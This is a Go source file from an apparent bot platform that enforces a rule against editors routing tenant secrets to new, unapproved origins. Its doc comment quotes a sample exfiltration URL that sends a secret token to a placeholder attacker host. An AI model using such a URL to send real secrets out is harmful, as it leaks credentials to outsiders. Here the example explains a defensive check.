package platform

import (
	"context"
	"fmt"
	"slices"

	"github.com/parleyhq/parley/pkg/auth"
	"github.com/parleyhq/parley/pkg/botconfig"
	"github.com/parleyhq/parley/pkg/store"
)

// checkSecretDestinations refuses a config that would send a tenant secret
// to an origin it is not already sent to, unless p may write secrets.
//
// Secrets are write-only to anyone below admin, but a config chooses where
// each {{secrets.NAME}} goes: an editor who could save
// "https://attacker.example/?x={{secrets.crm_token}}" and preview it would
// read the secret after all. So such a caller may only save a (secret,
// origin) pair that some published version of one of the tenant's bots
// already uses: publishing takes an admin, so an admin approved it. Callers
// who may write secrets (owners, admins, admin keys, the operator) may save
// anything. Nothing new is stored: the rule reads the published configs.
// edited is the bot getting a new version (nil for a new bot); its published
// version is read first, since the usual edit keeps the destinations it had.
func (se Secrets) checkSecretDestinations(ctx context.Context, p *Principal, tenantID string, edited *store.Bot, bot *botconfig.Bot) error {
	s := se.svc
	uses := bot.SecretUses()
	if len(uses) == 0 || s.Auth().Authorize(p, tenantID, auth.ObjSecrets, auth.ActWrite) == nil {
		return nil
	}
	unapproved, err := s.Secrets().unapprovedSecretUses(ctx, tenantID, edited, uses)
	if err != nil || len(unapproved) == 0 {
		return err
	}
	e := &Error{Code: CodeForbidden,
		Message: "this config sends tenant secrets where no published version sends them; an admin must approve it by saving this config"}
	for _, u := range unapproved {
		e.Details = append(e.Details, Detail{Pointer: u.Pointer, Message: fmt.Sprintf(
			"sends secret %q to %s, where no published version of this tenant sends it; an admin must approve it by saving this config",
			u.Secret, u.Origin)})
	}
	if len(e.Details) == 1 {
		e.Message = e.Details[0].Message
	}
	return e
}

// unapprovedSecretUses returns the uses whose (secret, origin) no published
// version of the tenant has. It reads published versions only until every
// use is accounted for.
func (se Secrets) unapprovedSecretUses(ctx context.Context, tenantID string, edited *store.Bot, uses []botconfig.SecretUse) ([]botconfig.SecretUse, error) {
	s := se.svc
	pending := slices.Clone(uses)
	approveFrom := func(b *store.Bot) error {
		if b.PublishedVersion == 0 || len(pending) == 0 {
			return nil
		}
		dest, err := s.Secrets().publishedDestinations(ctx, b)
		if err != nil {
			return err
		}
		pending = slices.DeleteFunc(pending, func(u botconfig.SecretUse) bool {
			return slices.Contains(dest[u.Secret], u.Origin)
		})
		return nil
	}
	if edited != nil {
		if err := approveFrom(edited); err != nil {
			return nil, err
		}
	}
	for page := (store.Page{Limit: store.MaxPageSize}); len(pending) > 0; {
		bots, next, err := s.store.Tenant(tenantID).Bots().List(ctx, page)
		if err != nil {
			return nil, s.storeErr(ctx, "secret destinations: bots", "bot", "", err)
		}
		for i := range bots {
			if edited != nil && bots[i].ID == edited.ID {
				continue
			}
			if err := approveFrom(&bots[i]); err != nil {
				return nil, err
			}
		}
		if next == "" {
			break
		}
		page.Cursor = next
	}
	return pending, nil
}

// publishedDestinations compiles b's published version and returns where it
// sends secrets. A stored config that no longer compiles (the rules grew
// stricter) approves nothing: it is logged, and the save it would have
// allowed then needs an admin.
func (se Secrets) publishedDestinations(ctx context.Context, b *store.Bot) (map[string][]string, error) {
	s := se.svc
	v, err := s.store.Tenant(b.TenantID).Versions().Get(ctx, b.ID, b.PublishedVersion)
	if err != nil {
		return nil, s.storeErr(ctx, "secret destinations: published version", "version", "", err)
	}
	compiled, err := s.opts.Compile([]byte(v.Config))
	if err != nil {
		s.log.WarnContext(ctx, "platform: a published version no longer compiles; it approves no secret destinations",
			"tenant_id", b.TenantID, "bot_id", b.ID, "version", v.Number, "err", err)
		return nil, nil
	}
	return compiled.SecretDestinations(), nil
}
